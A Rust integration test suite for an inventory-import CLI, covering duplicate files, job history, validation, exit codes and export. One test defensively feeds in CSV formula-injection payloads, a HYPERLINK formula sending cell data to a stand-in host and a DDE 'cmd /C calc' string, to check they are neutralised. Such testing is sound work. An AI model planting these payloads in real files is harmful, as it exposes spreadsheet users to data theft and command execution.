//! The other commands and the CLI contract (SPEC §2 duplicate files, §6):
//! `job`, `jobs`, `imports`, `validate`, `export`, `check-config`, exit
//! codes.

mod common;

use common::*;
use serde_json::{json, Value};

const JOB_KEYS: [&str; 10] = [
    "job_id",
    "import_id",
    "type",
    "location",
    "item_count",
    "status",
    "file",
    "added",
    "started",
    "finished",
];

// ---------------------------------------------------------------------------
// 6. Duplicate files.

#[test]
fn same_file_twice_is_a_duplicate_and_force_applies_it_again() {
    let env = Env::new();
    let text = stock_csv(&[("A", "S1", "5"), ("B", "S1", "6")]);
    let first = env.import_text("daily.csv", &text, 0);
    let first_id = import_id(&first);
    let jobs_after_first = env.jobs().len();

    let second = env.import_text("daily.csv", &text, 0);
    let second_id = import_id(&second);
    assert_ne!(second_id, first_id);
    assert_eq!(second["status"], "duplicate", "{second:#}");
    assert_eq!(second["duplicate_of"], first_id, "{second:#}");
    assert_eq!(second["sha256"], first["sha256"]);
    assert_eq!(second["jobs"], json!([]), "{second:#}");
    assert_eq!(env.jobs().len(), jobs_after_first, "no new jobs");
    assert_eq!(env.outbox_report("daily", second_id), second);
    assert_eq!(env.imports()[0]["status"], "duplicate");

    let run = env.import(&["--force", "daily.csv"]);
    run.code(0);
    let forced = run.report();
    assert_eq!(forced["status"], "applied", "{forced:#}");
    assert_eq!(forced["duplicate_of"], Value::Null);
    assert_eq!(job_ids(&forced).len(), 2);
    assert_eq!(env.jobs().len(), jobs_after_first + 2);
    assert_eq!(
        quantities(&env.stock(&[])),
        expect_quantities(&[("A", "S1", 5), ("B", "S1", 6)])
    );
}

#[test]
fn file_resent_after_a_newer_one_is_applied() {
    let env = Env::new();
    let old = stock_csv(&[("A", "S1", "5")]);
    env.import_text("old.csv", &old, 0);
    env.import_text("new.csv", &stock_csv(&[("A", "S1", "9")]), 0);
    let again = env.import_text("old.csv", &old, 0);
    assert_eq!(again["status"], "applied", "{again:#}");
    assert_eq!(again["duplicate_of"], Value::Null);
    assert_eq!(job_ids(&again).len(), 1);
    assert_eq!(
        quantities(&env.stock(&[])),
        expect_quantities(&[("A", "S1", 5)])
    );
}

#[test]
fn identical_files_for_different_locations_are_each_applied() {
    let env =
        Env::with_config("[import]\nlocation_from_filename = \"^store(?P<location>[0-9]+)\"\n");
    let text = lines(&["sku,qty", "S1,5"]);
    env.write("store11.csv", &text);
    env.write("store12.csv", &text);
    let run = env.import(&["store11.csv", "store12.csv", "store11.csv"]);
    run.code(0);
    let reports = run.json_lines();
    let statuses: Vec<&str> = reports
        .iter()
        .map(|r| r["status"].as_str().unwrap())
        .collect();
    assert_eq!(statuses, ["applied", "applied", "duplicate"], "{run}");
    assert_eq!(reports[2]["duplicate_of"], reports[0]["import_id"], "{run}");
    assert_eq!(
        quantities(&env.stock(&[])),
        expect_quantities(&[("11", "S1", 5), ("12", "S1", 5)])
    );
}

// ---------------------------------------------------------------------------
// 7. The history a job leaves.

#[test]
fn job_shows_its_changes_with_before_and_after_of_changed_fields_only() {
    let env = Env::new();
    let first = env.import_text(
        "first.csv",
        &lines(&[
            "location,sku,partNumber,upc,qty,price,attributes",
            "A,S1,P1,036000291452,5,2.5,red",
            "A,S2,,,7,,",
        ]),
        0,
    );
    let second = env.import_text(
        "second.csv",
        &lines(&[
            "location,sku,qty,price,bin,attributes",
            "A,S1,6,2.5,4,blue",
            "A,S2,7,,,",
            "A,S3,1,,,",
        ]),
        0,
    );
    let job_id = job_ids(&second)[0];
    let job = env.job(job_id);
    assert_keys(&job, &JOB_KEYS);
    assert_keys(&job, &["changes"]);
    assert_eq!(job["job_id"], job_id);
    assert_eq!(job["import_id"], import_id(&second));
    assert_eq!(job["type"], "refresh");
    assert_eq!(job["location"], "A");
    assert_eq!(job["item_count"], 3);
    assert_eq!(job["status"], "success");
    assert_eq!(job["file"], "second.csv");
    for key in ["added", "started", "finished"] {
        assert_utc_time(&job[key]);
    }

    let all = job["changes"].as_array().expect("changes array");
    // S2 was listed with the same quantity: nothing changed, no entry.
    assert_eq!(all.len(), 2, "{job:#}");
    let s1 = all.iter().find(|c| c["sku"] == "S1").expect("S1 change");
    assert_eq!(s1["partNumber"], "P1");
    assert_eq!(s1["upc"], "036000291452");
    assert_eq!(
        s1["before"],
        json!({"quantity": 5, "binID": null, "attributes": ["red"]})
    );
    assert_eq!(
        s1["after"],
        json!({"quantity": 6, "binID": 4, "attributes": ["red", "blue"]})
    );
    let s3 = all.iter().find(|c| c["sku"] == "S3").expect("S3 change");
    assert_eq!(s3["after"]["quantity"], 1, "{s3:#}");
    assert!(
        s3["before"]
            .as_object()
            .is_none_or(|b| b.values().all(Value::is_null)),
        "a created record has nothing before: {s3:#}"
    );

    // An item listed without a change keeps its last changing job.
    let stock = env.stock(&[]);
    assert_eq!(record(&stock, "A", "S2")["job_id"], job_ids(&first)[0]);
    assert_eq!(record(&stock, "A", "S1")["job_id"], job_id);

    // The first job still shows its own changes.
    let first_job = env.job(job_ids(&first)[0]);
    assert_eq!(first_job["changes"].as_array().map(Vec::len), Some(2));

    // The jobs listing has the same keys, newest first.
    let jobs = env.jobs();
    for j in &jobs {
        assert_keys(j, &JOB_KEYS);
    }
    let ids: Vec<i64> = jobs.iter().map(|j| j["job_id"].as_i64().unwrap()).collect();
    assert_eq!(ids, [job_id, job_ids(&first)[0]]);
}

// ---------------------------------------------------------------------------
// 11. validate.

const BAD_FILE: &[(&str, &str, &str)] = &[("A", "S1", "5"), ("A", "S2", "x")];
const GOOD_FILE: &[(&str, &str, &str)] = &[("A", "S1", "8")];

#[test]
fn validate_without_a_store_creates_nothing() {
    let env = Env::new();
    env.write("bad.csv", &stock_csv(BAD_FILE));
    let run = env.run(&["validate", "bad.csv"]);
    run.code(1);
    assert!(run.stdout.contains("bad.csv"), "{run}");
    assert!(run.stdout.contains("not-an-integer"), "{run}");
    assert!(
        !env.database().exists(),
        "validate created the store\n{run}"
    );
    assert!(
        !env.root().join("var").exists(),
        "validate wrote var/\n{run}"
    );
}

#[test]
fn validate_leaves_an_existing_store_unchanged() {
    let env = Env::new();
    env.import_text("base.csv", &stock_csv(&[("A", "S1", "1")]), 0);
    let stock = env.stock(&[]);
    let jobs = env.jobs();
    let imports = env.imports();
    let outbox = env.outbox_files();

    env.write("good.csv", &stock_csv(GOOD_FILE));
    let run = env.run(&["validate", "good.csv"]);
    run.code(0);
    assert!(run.stdout.contains("good.csv"), "{run}");
    assert_eq!(env.stock(&[]), stock);
    assert_eq!(env.jobs().len(), jobs.len());
    assert_eq!(env.imports().len(), imports.len());
    assert_eq!(env.outbox_files(), outbox);
}

#[test]
fn validate_json_prints_one_report_per_line() {
    let env = Env::new();
    env.write("bad.csv", &stock_csv(BAD_FILE));
    env.write("good.csv", &stock_csv(GOOD_FILE));
    let run = env.run(&["validate", "--json", "bad.csv", "good.csv"]);
    run.code(1);
    let reports = run.json_lines();
    assert_eq!(reports.len(), 2, "{run}");
    assert_eq!(reports[0]["file"], "bad.csv");
    assert_eq!(reports[0]["error_counts"]["not-an-integer"], 1, "{run}");
    assert_eq!(reports[0]["status"], "partial");
    assert_eq!(reports[1]["file"], "good.csv");
    assert_eq!(reports[1]["errors"], json!([]));

    let run = env.run(&["validate", "--json", "good.csv"]);
    run.code(0);
    assert_eq!(run.json_lines().len(), 1, "{run}");
    assert!(!env.database().exists());
}

// ---------------------------------------------------------------------------
// 12. Exit codes.

#[test]
fn unknown_job_id_is_exit_2() {
    let env = Env::new();
    env.run(&["job", "999"]).code(2);
    env.import_text("a.csv", &stock_csv(&[("A", "S1", "1")]), 0);
    let run = env.run(&["job", "999", "--json"]);
    run.code(2);
    assert!(run.stderr.contains("999"), "{run}");
}

#[test]
fn bad_config_value_from_environment_is_exit_2_naming_the_key() {
    let env = Env::new();
    let run = env.run_with(&[("STOCKDROP__IMPORT__ON_ERROR", "bogus")], &["jobs"]);
    run.code(2);
    assert!(run.stderr.contains("import.on_error"), "{run}");
}

#[test]
fn bad_config_value_in_file_is_exit_2() {
    let env = Env::with_config("[import]\nrefresh_mode = \"sometimes\"\n");
    let run = env.run(&["stock"]);
    run.code(2);
    assert!(run.stderr.contains("import.refresh_mode"), "{run}");
}

#[test]
fn unknown_config_key_is_exit_2() {
    let env = Env::with_config("[import]\nbogus_key = 1\n");
    let run = env.run(&["jobs"]);
    run.code(2);
    assert!(run.stderr.contains("bogus_key"), "{run}");
}

#[test]
fn import_of_a_missing_file_is_exit_3() {
    let env = Env::new();
    let run = env.import(&["nope.csv"]);
    run.code(3);
    assert!(run.stderr.contains("nope.csv"), "{run}");
    assert!(env.outbox_files().is_empty(), "{:?}", env.outbox_files());
}

// ---------------------------------------------------------------------------
// 13. check-config, export, imports.

#[test]
fn check_config_creates_the_directories_and_prints_the_effective_config() {
    let env = Env::with_config("[import]\nitems_per_job = 250\n");
    let run = env.run(&["check-config"]);
    run.code(0);
    for dir in ["inbox", "work", "archive", "failed", "outbox"] {
        let path = env.root().join("var").join(dir);
        assert!(path.is_dir(), "{} missing\n{run}", path.display());
    }
    assert!(run.stdout.contains("items_per_job = 250"), "{run}");
    assert!(run.stdout.contains("on_error = \"reject-rows\""), "{run}");
    assert!(run.stdout.contains("[paths]"), "{run}");
}

#[test]
fn export_contains_every_record_as_csv_and_json() {
    let env = Env::new();
    env.import_text(
        "a.csv",
        &lines(&[
            "location,sku,upc,qty,attributes",
            "A,S1,036000291452,5,red;big",
            "A,S2,,7,",
            "B,S1,,3,",
        ]),
        0,
    );
    let stock = env.stock(&[]);

    let run = env.run(&["export"]);
    run.code(0);
    let rows = parse_csv(&run.stdout);
    assert_eq!(rows.len(), 4, "{run}");
    let header = &rows[0];
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no {name} column\n{run}"))
    };
    let (loc, sku, qty, upc) = (col("locationName"), col("sku"), col("quantity"), col("upc"));
    let mut exported: Vec<(String, String, String, String)> = rows[1..]
        .iter()
        .map(|r| {
            (
                r[loc].clone(),
                r[sku].clone(),
                r[qty].clone(),
                r[upc].clone(),
            )
        })
        .collect();
    exported.sort();
    assert_eq!(
        exported,
        vec![
            ("A".into(), "S1".into(), "5".into(), "036000291452".into()),
            ("A".into(), "S2".into(), "7".into(), String::new()),
            ("B".into(), "S1".into(), "3".into(), String::new()),
        ]
    );

    // JSON: Inventory Refresh request bodies, one per location, holding
    // what `stock --json` holds.
    let run = env.run(&["export", "--format", "json"]);
    run.code(0);
    let bodies = array(run.json());
    let mut from_bodies = Vec::new();
    for body in &bodies {
        for item in body["items"].as_array().into_iter().flatten() {
            from_bodies.push((
                body["locationName"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
                item["sku"].clone(),
                item["quantity"].clone(),
                item.get("upc").cloned().unwrap_or(Value::Null),
            ));
        }
    }
    let listed: Vec<_> = stock
        .iter()
        .map(|r| {
            (
                r["location"].as_str().unwrap_or_default().to_string(),
                r["sku"].clone(),
                r["quantity"].clone(),
                r["upc"].clone(),
            )
        })
        .collect();
    assert_eq!(
        from_bodies, listed,
        "export --format json holds what stock --json does"
    );
    assert_eq!(bodies.len(), 2, "{bodies:?}");
}

#[test]
fn imports_lists_every_file_with_its_outcome() {
    let env = Env::new();
    let first = env.import_text(
        "one.csv",
        &stock_csv(&[("A", "S1", "1"), ("B", "S1", "2")]),
        0,
    );
    let second = env.import_text(
        "two.csv",
        &stock_csv(&[("A", "S1", "x"), ("A", "S2", "3")]),
        1,
    );
    let imports = env.imports();
    assert_eq!(imports.len(), 2, "{imports:#?}");
    for i in &imports {
        assert_keys(
            i,
            &[
                "import_id",
                "file",
                "sha256",
                "format",
                "status",
                "rows_total",
                "rows_accepted",
                "rows_rejected",
                "jobs",
                "received_at",
                "finished_at",
            ],
        );
        assert_utc_time(&i["received_at"]);
        assert_utc_time(&i["finished_at"]);
    }
    let newest = &imports[0];
    assert_eq!(newest["import_id"], import_id(&second));
    assert_eq!(newest["file"], "two.csv");
    assert_eq!(newest["sha256"], second["sha256"]);
    assert_eq!(newest["format"], "csv");
    assert_eq!(newest["status"], "partial");
    assert_eq!(
        (
            &newest["rows_total"],
            &newest["rows_accepted"],
            &newest["rows_rejected"]
        ),
        (&json!(2), &json!(1), &json!(1))
    );
    assert_eq!(newest["jobs"], json!(job_ids(&second)));
    let oldest = &imports[1];
    assert_eq!(oldest["status"], "applied");
    assert_eq!(oldest["jobs"], json!(job_ids(&first)));
}

// ---------------------------------------------------------------------------
// What a newcomer meets: headers real exports use, answers that agree.

/// `stockdrop ARGS` in the root without `--json`: what a person sees.
fn text_run(env: &Env, args: &[&str]) -> common::Run {
    env.run_with(&[], args)
}

#[test]
fn item_and_product_code_headers_are_skus_and_item_alone_gets_the_columns_line() {
    let env = Env::new();
    for (i, header) in [
        "Item Number",
        "Item No",
        "Product Code",
        "Art.-No.",
        "itemid",
    ]
    .iter()
    .enumerate()
    {
        let report = env.import_text(
            &format!("export{i}.csv"),
            &lines(&[&format!("Store,{header},On Hand"), &format!("11,P{i},{i}")]),
            0,
        );
        assert_eq!(report["status"], "applied", "{header}: {report:#}");
        assert_eq!(
            record(&env.stock(&[]), "11", &format!("P{i}"))["quantity"],
            i
        );
    }
    let report = env.import_text("items.csv", &lines(&["Store,Item #,On Hand", "11,A,5"]), 1);
    assert_eq!(report["status"], "rejected", "{report:#}");
    let error = &report["errors"][0];
    assert_eq!(error["code"], "missing-column", "{report:#}");
    let message = error["message"].as_str().unwrap_or_default();
    assert!(message.contains(r#""Item #" = "sku""#), "{message}");
    assert!(message.contains("[columns]"), "{message}");
    assert!(!message.contains("no an "), "{message}");
    // The line the message gives works.
    env.set_config("[columns]\n\"Item #\" = \"sku\"\n");
    let report = env.import_text("items.csv", &lines(&["Store,Item #,On Hand", "11,A,5"]), 0);
    assert_eq!(report["status"], "applied", "{report:#}");
}

#[test]
fn warnings_reach_the_terminal_with_their_counts() {
    let env = Env::new();
    env.write(
        "warns.csv",
        &lines(&[
            "location,sku,upc,qty,Colour",
            "11,A,036000291453,1,red",
            "11,B,,2,blue",
        ]),
    );
    for command in ["validate", "import"] {
        let run = text_run(&env, &[command, "warns.csv"]);
        run.code(0);
        assert!(
            run.stdout
                .contains("2 warnings (upc-check-digit 1, unknown-column 1):"),
            "{run}"
        );
        assert!(
            run.stdout.contains("E1 unknown-column: column \"Colour\""),
            "{run}"
        );
        assert!(run.stdout.contains("C2 upc-check-digit:"), "{run}");
    }
    let run = text_run(&env, &["validate", "warns.csv"]);
    assert!(run.stdout.contains("warns.csv: duplicate"), "{run}");
}

#[test]
fn counts_say_one_item_and_one_row() {
    let env = Env::new();
    env.write("one.csv", &stock_csv(&[("11", "A", "1")]));
    let run = text_run(&env, &["import", "one.csv"]);
    run.code(0);
    assert!(run.stdout.contains("applied — 1 row, 1 accepted"), "{run}");
    assert!(run.stdout.contains("location 11, 1 item, success"), "{run}");
    let run = text_run(&env, &["revert", "1"]);
    run.code(0);
    assert!(run.stdout.contains("1 record restored"), "{run}");
    let run = text_run(&env, &["status"]);
    assert!(run.stdout.contains("0 files waiting"), "{run}");
}

#[test]
fn status_counts_jobs_as_the_jobs_listing_does() {
    let env = Env::new();
    env.import_text(
        "a.csv",
        &stock_csv(&[("11", "A", "1"), ("12", "B", "2")]),
        0,
    );
    env.run(&["revert", "1"]).code(0);
    let status = env.listing(&["status"]);
    for state in ["success", "reverted"] {
        let listed = array(env.listing(&["jobs", "--status", state])).len() as i64;
        assert_eq!(
            status["jobs_24h"][state].as_i64().unwrap_or(0),
            listed,
            "{state}: {status:#}"
        );
    }
    // A refresh job still in force, and the revert job.
    assert_eq!(status["jobs_24h"]["success"], 2, "{status:#}");
}

#[test]
fn unknown_flag_values_are_usage_errors_naming_the_valid_ones() {
    let env = Env::new();
    let run = env.run(&["jobs", "--status", "bogus"]);
    run.code(2);
    assert!(run.stderr.contains("bogus"), "{run}");
    assert!(
        run.stderr.contains("success") && run.stderr.contains("reverted"),
        "{run}"
    );
    assert!(run.stdout.is_empty(), "{run}");
    let run = env.run(&["jobs", "--status", "bogus", "--json"]);
    run.code(2);
    let answer = run.json();
    assert_eq!(answer["exit_code"], 2, "{run}");
    assert!(
        answer["error"]
            .as_str()
            .unwrap_or_default()
            .contains("possible values"),
        "{run}"
    );
    let run = env.run(&["export", "--format", "xml"]);
    run.code(2);
    assert!(
        run.stderr.contains("csv") && run.stderr.contains("json"),
        "{run}"
    );
}

#[test]
fn json_answers_come_for_refusals_and_errors_too() {
    let env = Env::new();
    env.import_text("a.csv", &stock_csv(&[("11", "A", "1")]), 0);
    env.import_text("b.csv", &stock_csv(&[("11", "A", "2")]), 0);
    let run = env.run(&["revert", "1", "--json"]);
    run.code(1);
    let answer = run.json();
    assert_eq!(answer["status"], "refused", "{run}");
    assert_eq!(answer["job_id"], 1, "{run}");
    assert_eq!(answer["later_jobs"], json!([2]), "{run}");
    assert!(
        answer["reason"]
            .as_str()
            .unwrap_or_default()
            .contains("job 2"),
        "{run}"
    );
    let run = env.run(&["import", "--json", "missing.csv", "a.csv"]);
    run.code(3);
    let lines = run.json_lines();
    assert_eq!(lines[0]["file"], "missing.csv", "{run}");
    assert_eq!(lines[0]["exit_code"], 3, "{run}");
    assert_eq!(lines[1]["status"], "applied", "{run}");
    let run = env.run(&["validate", "--json", "missing.csv"]);
    run.code(3);
    assert_eq!(run.json()["exit_code"], 3, "{run}");
    let run = env.run(&["job", "99", "--json"]);
    run.code(2);
    assert_eq!(run.json()["exit_code"], 2, "{run}");
    assert!(
        run.json()["error"]
            .as_str()
            .unwrap_or_default()
            .contains("no job 99"),
        "{run}"
    );
}

#[test]
fn revert_says_as_many_changes_as_its_job_shows() {
    let env = Env::new();
    env.import_text(
        "a.csv",
        &stock_csv(&[("11", "A", "5"), ("11", "B", "6")]),
        0,
    );
    // A is back at 0 already, so reverting job 1 changes only B.
    env.import_text("b.csv", &stock_csv(&[("11", "A", "0")]), 0);
    let run = env.run(&["revert", "1", "--force", "--json"]);
    run.code(0);
    let answer = run.json();
    assert_eq!(answer["records"], 1, "{run}");
    let revert_job = answer["revert_job_id"].as_i64().unwrap_or_default();
    let job = env.job(revert_job);
    assert_eq!(job["changes"].as_array().map(Vec::len), Some(1), "{job:#}");
    assert_eq!(job["item_count"], 1, "{job:#}");
}

#[test]
fn a_duplicate_reimport_says_nothing_was_done() {
    let env = Env::new();
    let text = stock_csv(&[("11", "A", "5"), ("11", "B", "-1")]);
    let first = env.import_text("daily.csv", &text, 1);
    assert_eq!(first["status"], "partial");
    env.write("daily.csv", &text);
    let run = text_run(&env, &["import", "daily.csv"]);
    run.code(0);
    assert!(
        run.stdout.contains(
            "daily.csv: duplicate — same content as import 1, nothing applied (import 2)"
        ),
        "{run}"
    );
    assert!(!run.stdout.contains("out-of-range"), "{run}");
    assert_eq!(
        env.outbox_files_of("daily"),
        [
            "daily.1.errors.csv",
            "daily.1.html",
            "daily.1.json",
            "daily.2.html",
            "daily.2.json"
        ]
    );
    let page = env.outbox_text("daily.2.html");
    assert!(page.contains("<b>0</b>applied"), "{page}");
    assert!(page.contains("<b>2</b>not applied (duplicate)"), "{page}");
    assert!(!page.contains("<b>1</b>applied"), "{page}");
}

#[test]
fn json_export_is_request_bodies_that_import_again() {
    let env = Env::new();
    let mut rows = vec!["location,sku,upc,qty,price,attributes".to_string()];
    for i in 0..1001 {
        rows.push(format!("11,S{i:04},,{i},1.5,"));
    }
    rows.push("12,X,036000291452,7,,a;b".into());
    let rows: Vec<&str> = rows.iter().map(String::as_str).collect();
    env.import_text("big.csv", &lines(&rows), 0);
    let run = env.run(&["export", "--format", "json"]);
    run.code(0);
    let bodies = array(run.json());
    let shape: Vec<(String, usize)> = bodies
        .iter()
        .map(|b| {
            (
                b["locationName"].as_str().unwrap_or_default().to_string(),
                b["items"].as_array().map_or(0, Vec::len),
            )
        })
        .collect();
    assert_eq!(
        shape,
        [("11".into(), 1000), ("11".into(), 1), ("12".into(), 1)]
    );
    assert_eq!(
        bodies[2]["items"][0],
        json!({"sku": "X", "upc": "036000291452", "quantity": 7, "attributes": ["a", "b"]})
    );
    let before = quantities(&env.stock(&[]));
    for format in ["json", "csv"] {
        let copy = Env::new();
        let run = env.run(&["export", "--format", format]);
        let name = format!("export.{format}");
        copy.write(&name, &run.stdout);
        let report = copy.import_text(&name, &run.stdout, 0);
        assert_eq!(report["status"], "applied", "{format}: {report:#}");
        assert_eq!(report["warnings"], json!([]), "{format}: {report:#}");
        assert_eq!(quantities(&copy.stock(&[])), before, "{format}");
        assert_eq!(
            record(&copy.stock(&[]), "12", "X")["attributes"],
            json!(["a", "b"])
        );
    }
}

#[test]
fn identifier_conflicts_name_records_that_stock_lists() {
    let env = Env::new();
    env.import_text(
        "a.csv",
        &lines(&["location,sku,upc,qty", "11,A,036000291452,1", "11,B,,2"]),
        0,
    );
    let report = env.import_text(
        "b.csv",
        &lines(&["location,sku,upc,qty", "11,B,036000291452,3"]),
        1,
    );
    let message = report["errors"][0]["message"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert_eq!(
        report["errors"][0]["code"], "identifier-conflict",
        "{report:#}"
    );
    let stock = env.stock(&[]);
    for sku in ["A", "B"] {
        let id = record(&stock, "11", sku)["record_id"]
            .as_i64()
            .unwrap_or_default();
        assert!(
            message.contains(&format!("record #{id}")),
            "{sku} #{id}: {message}"
        );
    }
    let run = text_run(&env, &["stock"]);
    assert!(run.stdout.starts_with("RECORD"), "{run}");
}

#[test]
fn formulas_are_neutralised_in_every_csv_and_export_round_trips() {
    let env = Env::new();
    let link = r#" =HYPERLINK("http://x.example/?"&A1)"#;
    let calc = "@SUM(1+1)*cmd|' /C calc'!A0";
    let (bad_link, bad_calc) = (
        r#" =HYPERLINK("http://y.example/")"#,
        "@SUM(2+2)*cmd|' /C calc'!A0",
    );
    let quoted = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    env.import_text(
        "evil.csv",
        &lines(&[
            "location,sku,qty,attributes",
            &format!("11,{},1,{}", quoted(link), quoted("=x;-y")),
            &format!("11,{},2,", quoted(calc)),
            "11,-7,4,",
            &format!("11,{},ten,", quoted(bad_link)),
            &format!("11,{},-3,", quoted(bad_calc)),
        ]),
        1,
    );
    // The errors CSV: the rejected rows' skus are neutralised, -3 is not.
    let errors = env.outbox_csv("evil.1.errors.csv");
    assert_eq!(errors.len(), 3, "{errors:?}");
    let sku = |cell: &str| cell.strip_prefix('\'').map(|c| c.trim().to_string());
    assert_eq!(
        sku(&errors[1][1]).as_deref(),
        Some(bad_link.trim()),
        "{errors:?}"
    );
    assert_eq!(sku(&errors[2][1]).as_deref(), Some(bad_calc), "{errors:?}");
    assert_eq!(errors[2][2], "-3", "{errors:?}");
    // The export: every formula-looking cell, number-looking ones left alone.
    let run = env.run(&["export"]);
    run.code(0);
    let cells = parse_csv(&run.stdout);
    let skus: Vec<&str> = cells[1..].iter().map(|r| r[1].as_str()).collect();
    assert!(
        skus.contains(&format!("'{}", link.trim()).as_str()),
        "{skus:?}"
    );
    assert!(skus.contains(&format!("'{calc}").as_str()), "{skus:?}");
    assert!(skus.contains(&"-7"), "{skus:?}");
    assert!(cells[1..].iter().any(|r| r[11] == "'=x;-y"), "{cells:?}");
    for cell in cells[1..].iter().flatten() {
        let first = cell.trim_start().chars().next();
        let live = matches!(first, Some('=' | '+' | '@')) || (first == Some('-') && cell != "-7");
        assert!(!live, "live cell {cell:?}");
    }
    // Dropped back in, the `'` goes again: the same stock.
    let copy = Env::new();
    let report = copy.import_text("export.csv", &run.stdout, 0);
    assert_eq!(report["status"], "applied", "{report:#}");
    assert_eq!(quantities(&copy.stock(&[])), quantities(&env.stock(&[])));
    assert_eq!(record(&copy.stock(&[]), "11", link.trim())["quantity"], 1);
    assert_eq!(
        record(&copy.stock(&[]), "11", calc)["attributes"],
        json!([])
    );
}

#[test]
fn a_misspelt_environment_variable_is_named() {
    let env = Env::new();
    env.write("a.csv", &stock_csv(&[("11", "A", "1")]));
    let run = env.run_with(
        &[("STOCKDROP__IMPORT__ON_EROR", "reject-file")],
        &["import", "a.csv"],
    );
    run.code(2);
    assert!(run.stderr.contains("import.on_eror"), "{run}");
    assert!(
        run.stderr
            .contains("environment variable STOCKDROP__IMPORT__ON_EROR"),
        "{run}"
    );
}

#[test]
fn the_samples_tell_one_story_in_the_readme_order() {
    let samples = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("samples");
    let env = Env::new();
    let names = [
        "stores-clean.csv",
        "excel-export.csv",
        "store12-semicolon.csv",
        "mistakes.csv",
        "two-sheets.xlsx",
        "store13.ods",
        "api-request.json",
        "stores.zip",
    ];
    let paths: Vec<String> = names
        .iter()
        .map(|n| samples.join(n).display().to_string())
        .collect();
    let args: Vec<&str> = paths.iter().map(String::as_str).collect();
    let run = env.import(&args);
    run.code(1);
    let outcome: Vec<(String, String)> = run
        .json_lines()
        .iter()
        .map(|r| {
            (
                r["file"].as_str().unwrap_or_default().to_string(),
                r["status"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    let mut expected: Vec<(String, String)> = names[..7]
        .iter()
        .map(|n| (n.to_string(), "applied".to_string()))
        .collect();
    expected[3].1 = "partial".into();
    expected.push(("store14.csv".into(), "applied".into()));
    expected.push(("store15.csv".into(), "applied".into()));
    assert_eq!(outcome, expected, "{run}");
    let reports = run.json_lines();
    let conflicts: u64 = reports
        .iter()
        .filter_map(|r| r["error_counts"]["identifier-conflict"].as_u64())
        .sum();
    assert_eq!(conflicts, 0, "{run}");
    // The workbook gave excel-export's products their UPCs.
    assert_eq!(
        record(&env.stock(&[]), "11", "A-101")["upc"],
        "012345678905"
    );
}
